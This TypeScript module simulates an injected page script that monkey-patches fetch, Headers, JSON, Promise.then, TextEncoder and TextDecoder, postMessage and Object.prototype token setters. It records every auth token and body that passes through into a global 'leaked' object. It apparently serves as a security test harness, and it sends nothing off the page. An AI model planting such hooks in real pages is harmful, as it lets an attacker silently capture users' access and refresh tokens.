declare global {
  /** What the patched functions of the page have been given, by the function's name. */
  var leaked: Record<string, unknown[]>;
}

/**
 * An injected script, before every other of the page: everything that a token could pass on its way is replaced by
 * something that writes it down first.
 */
export function patchEverything(): void {
  const leaked: Record<string, unknown[]> = {};
  globalThis.leaked = leaked;
  const note = (where: string, what: unknown) => {
    leaked[where] ??= [];
    leaked[where].push(what);
  };

  const { fetch: nativeFetch, Request: NativeRequest, Headers: NativeHeaders } = globalThis;
  const { set, append, get } = NativeHeaders.prototype;
  const { clone, text } = Response.prototype;
  const { parse } = JSON;
  const { then } = Promise.prototype;
  const { apply } = Reflect;

  globalThis.fetch = async (input, init) => {
    const request = new NativeRequest(input, init);
    note("fetch: Authorization", apply(get, request.headers, ["authorization"]));
    note("fetch: body", await request.clone().text());
    const reply = await nativeFetch(request);
    note("fetch: reply", await apply(text, apply(clone, reply, []), []));
    return reply;
  };
  Headers.prototype.set = function (name, value) {
    note("Headers.set", value);
    return apply(set, this, [name, value]);
  };
  Headers.prototype.append = function (name, value) {
    note("Headers.append", value);
    return apply(append, this, [name, value]);
  };
  globalThis.Request = class extends NativeRequest {
    constructor(input: RequestInfo | URL, init?: RequestInit) {
      super(input, init);
      if (typeof init?.body === "string" || init?.body instanceof URLSearchParams)
        note("Request", `${init.body}`);
    }
  };
  JSON.parse = (source, reviver) => {
    note("JSON.parse", source);
    return parse(source, reviver);
  };
  const { stringify } = JSON;
  JSON.stringify = (...given: unknown[]) => {
    const out = apply(stringify, JSON, given);
    note("JSON.stringify", out);
    return out;
  };
  // biome-ignore lint/suspicious/noThenProperty: that is the attack
  Promise.prototype.then = function (this: Promise<unknown>, onResolve?: never, onReject?: never) {
    const listen = (value: unknown) => {
      if (typeof value === "string") note("Promise.then", value);
      else if (typeof value === "object" && value)
        for (const own of Object.values(Object.getOwnPropertyDescriptors(value)))
          if (typeof own.value === "string") note("Promise.then", own.value);
    };
    apply(then, this, [listen, () => {}]);
    return apply(then, this, [onResolve, onReject]);
  } as typeof then;
  for (const name of ["accessToken", "refreshToken", "access_token", "refresh_token"])
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      get: () => undefined,
      set(value) {
        note(`Object.prototype.${name}`, value);
        Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
      },
    });
  const { encode } = TextEncoder.prototype;
  TextEncoder.prototype.encode = function (source) {
    note("TextEncoder", source);
    return apply(encode, this, [source]);
  };
  const { decode } = TextDecoder.prototype;
  TextDecoder.prototype.decode = function (...given) {
    const out = apply(decode, this, given);
    note("TextDecoder", out);
    return out;
  };
  for (const way of ["MessagePort", "Worker"] as const) {
    const { postMessage } = globalThis[way].prototype;
    globalThis[way].prototype.postMessage = function (this: unknown, ...given: unknown[]) {
      note("postMessage", stringify(given[0]) ?? "");
      return apply(postMessage, this, given);
    } as never;
  }
  const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
  Object.defineProperty(MessageEvent.prototype, "data", {
    get() {
      const value = data?.get?.call(this);
      note("message", stringify(value) ?? "");
      return value;
    },
  });
}
